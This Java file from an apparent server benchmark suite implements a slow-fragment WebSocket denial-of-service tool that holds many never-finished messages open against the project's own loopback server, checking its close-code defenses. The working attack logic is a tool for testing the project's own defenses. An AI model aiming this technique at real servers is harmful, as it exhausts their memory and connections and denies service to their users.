package org.loommpm.bench.attack;

import java.io.EOFException;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.Executors;
import java.util.concurrent.ThreadLocalRandom;
import java.util.concurrent.atomic.AtomicLong;

/**
 * The never-finished WebSocket message attack of issue #50 (item 5), for {@code benchmarks/attack.sh}
 * ({@code ws-fragments}): N connections to ws://127.0.0.1:PORT{@code --path}, each sending the
 * first fragment of a binary message ({@code --fragment} bytes, 900 KiB by default: under the
 * 1 MiB message limit), then a 1-byte continuation every {@code --interval} s, never the last one,
 * so the server holds the message; when the server closes the socket it reconnects and starts
 * again, until {@code --duration} is up. Only loopback targets.
 *
 * <pre>
 * java -cp loom-mpm-bench.jar org.loommpm.bench.attack.WsFragmentAttack --port 18090 \
 *     [--conns 200] [--duration 30] [--interval 1] [--fragment 921600] [--path /ws]
 * </pre>
 *
 * The last output line starts with {@code WSATTACK} and holds the totals as key=value (read by
 * attack.sh): handshakes that succeeded, connects or handshakes that failed, the close codes the
 * server sent (1009: the input budget refused the message; 1008: the message deadline), the
 * connections that ended without a close frame, and the bytes sent.
 */
public final class WsFragmentAttack {
    private static final long NANOS = 1_000_000_000L;

    private WsFragmentAttack() {
    }

    public static void main(String[] args) throws Exception {
        int port = -1;
        int conns = 200;
        double duration = 30;
        double interval = 1;
        int fragment = 900 * 1024;
        String path = "/ws";
        for (int i = 0; i < args.length; i++) {
            switch (args[i]) {
                case "--port" -> port = Integer.parseInt(args[++i]);
                case "--conns" -> conns = Integer.parseInt(args[++i]);
                case "--duration" -> duration = Double.parseDouble(args[++i]);
                case "--interval" -> interval = Double.parseDouble(args[++i]);
                case "--fragment" -> fragment = Integer.parseInt(args[++i]);
                case "--path" -> path = args[++i];
                default -> throw new IllegalArgumentException("unknown argument " + args[i]);
            }
        }
        if (port <= 0 || duration <= 0 || duration > 600 || conns <= 0 || conns > 5000 || fragment <= 0
                || fragment > (16 << 20)) {
            System.err.println("usage: WsFragmentAttack --port P [--conns N (<= 5000)] [--duration S (<= 600)]"
                    + " [--interval S] [--fragment BYTES (<= 16 MiB)] [--path /ws]");
            System.exit(2);
        }
        long end = System.nanoTime() + (long) (duration * NANOS);
        byte[] first = frame(0x02, new byte[fragment]); // binary, FIN not set
        byte[] drip = frame(0x00, new byte[] {'x'});   // continuation, FIN not set
        byte[] handshake = ("GET " + path + " HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\n"
                + "Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
                + "Sec-WebSocket-Version: 13\r\n\r\n").getBytes(StandardCharsets.US_ASCII);
        Totals t = new Totals();
        long intervalMs = Math.max(1, (long) (interval * 1000));
        int target = port;
        try (var pool = Executors.newVirtualThreadPerTaskExecutor()) {
            for (int c = 0; c < conns; c++) {
                pool.submit(() -> {
                    while (System.nanoTime() < end) {
                        oneSocket(target, handshake, first, drip, intervalMs, end, t);
                    }
                    return null;
                });
            }
        }
        System.out.println("WSATTACK conns=" + conns + " handshakes=" + t.handshakes + " failed=" + t.failed
                + " closes=" + closes(t.codes) + " no_close_frame=" + t.noCloseFrame + " sent_mb="
                + t.sent.get() / (1 << 20));
    }

    /** Running totals, any thread. */
    private static final class Totals {
        final AtomicLong handshakes = new AtomicLong();
        final AtomicLong failed = new AtomicLong();
        final AtomicLong noCloseFrame = new AtomicLong();
        final AtomicLong sent = new AtomicLong();
        final Map<Integer, AtomicLong> codes = new ConcurrentHashMap<>();
    }

    /** One socket: handshake, the big fragment, then drips until the server closes it or the time is up. */
    private static void oneSocket(int port, byte[] handshake, byte[] first, byte[] drip, long intervalMs, long end,
                                  Totals t) {
        try (Socket s = new Socket()) {
            s.connect(new InetSocketAddress("127.0.0.1", port), 10_000);
            s.setSoLinger(true, 0); // ours end with a reset: no TIME_WAIT pile-up
            OutputStream out = s.getOutputStream();
            InputStream in = s.getInputStream();
            out.write(handshake);
            s.setSoTimeout(10_000);
            if (!switched(in)) {
                t.failed.incrementAndGet();
                pause();
                return;
            }
            t.handshakes.incrementAndGet();
            out.write(first);
            t.sent.addAndGet(first.length);
            while (System.nanoTime() < end) {
                s.setSoTimeout((int) intervalMs);
                try {
                    int code = closeCode(in);
                    t.codes.computeIfAbsent(code, k -> new AtomicLong()).incrementAndGet();
                    return; // closed by the server: reconnect
                } catch (SocketTimeoutException quiet) {
                    out.write(drip);
                    t.sent.addAndGet(drip.length);
                }
            }
        } catch (EOFException e) {
            t.noCloseFrame.incrementAndGet();
        } catch (IOException e) {
            t.failed.incrementAndGet();
            pause();
        }
    }

    /** Reads the handshake answer's head: whether it is a 101. */
    private static boolean switched(InputStream in) throws IOException {
        StringBuilder head = new StringBuilder();
        int state = 0;
        while (state < 4) {
            int b = in.read();
            if (b < 0) {
                return false;
            }
            head.append((char) b);
            boolean next = (b == '\r' && (state == 0 || state == 2)) || (b == '\n' && (state == 1 || state == 3));
            state = next ? state + 1 : 0;
        }
        return head.toString().startsWith("HTTP/1.1 101");
    }

    /** Reads server frames until a close frame: its code (1005 without one). */
    private static int closeCode(InputStream in) throws IOException {
        for (;;) {
            int b0 = read(in);
            long len = read(in) & 0x7F;
            if (len == 126) {
                len = (read(in) << 8) | read(in);
            } else if (len == 127) {
                len = 0;
                for (int i = 0; i < 8; i++) {
                    len = (len << 8) | read(in);
                }
            }
            byte[] payload = in.readNBytes((int) len);
            if ((b0 & 0x0F) == 0x8) {
                return payload.length < 2 ? 1005 : ((payload[0] & 0xFF) << 8) | (payload[1] & 0xFF);
            }
        }
    }

    private static int read(InputStream in) throws IOException {
        int b = in.read();
        if (b < 0) {
            throw new EOFException("server closed");
        }
        return b;
    }

    /** A masked client frame (RFC 6455 §5.2). */
    static byte[] frame(int b0, byte[] payload) {
        int n = payload.length;
        int ext = n < 126 ? 0 : n < 65_536 ? 2 : 8;
        byte[] f = new byte[2 + ext + 4 + n];
        f[0] = (byte) b0;
        f[1] = (byte) (0x80 | (ext == 0 ? n : ext == 2 ? 126 : 127));
        for (int i = 0; i < ext; i++) {
            f[2 + i] = (byte) ((long) n >>> (8 * (ext - 1 - i)));
        }
        byte[] mask = new byte[4];
        ThreadLocalRandom.current().nextBytes(mask);
        System.arraycopy(mask, 0, f, 2 + ext, 4);
        for (int i = 0; i < n; i++) {
            f[6 + ext + i] = (byte) (payload[i] ^ mask[i & 3]);
        }
        return f;
    }

    /** A failed connect does not retry at once: the attack is N clients, not a connect flood. */
    private static void pause() {
        try {
            Thread.sleep(200);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    private static String closes(Map<Integer, AtomicLong> codes) {
        Map<Integer, Long> sorted = new TreeMap<>();
        codes.forEach((k, v) -> sorted.put(k, v.get()));
        StringBuilder b = new StringBuilder();
        sorted.forEach((k, v) -> b.append(b.isEmpty() ? "" : ",").append(k).append(':').append(v));
        return b.isEmpty() ? "none" : b.toString();
    }
}
